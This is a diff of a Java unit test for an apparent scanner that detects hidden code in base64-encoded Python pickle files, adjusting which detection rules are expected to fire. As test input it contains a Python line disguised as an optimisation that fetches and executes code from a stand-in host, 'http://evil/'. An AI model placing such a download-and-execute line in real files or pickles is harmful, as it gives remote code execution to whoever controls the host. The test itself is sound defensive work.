@@ -137,13 +137,18 @@ class EncodedPickleTest {
     }
 
     @Test
-    void codeThatIsEncodedIsSuspicious() {
+    void codeThatIsEncodedIsJudged() {
         String code = "\n# optimizes\nimport urllib.request\nexec(urllib.request.urlopen('http://evil/').read())\n";
         String settings = "model:\n  type: transformer\n  layers: 12\n";
         Base64.Encoder base64 = Base64.getEncoder();
 
         assertThat(rules(scan(Pickles.protocol(4)
                         .text(base64.encodeToString(code.getBytes(StandardCharsets.UTF_8)))
+                        .stop())))
+                .containsExactlyInAnyOrder("code.hidden-payload", "pickle.hidden-code");
+        assertThat(rules(scan(Pickles.protocol(4)
+                        .text(base64.encodeToString(
+                                "x = subprocess.run(a) if b else eval(c)".getBytes(StandardCharsets.UTF_8)))
                         .stop())))
                 .containsExactly("pickle.hidden-code");
         assertThat(scan(Pickles.protocol(4)
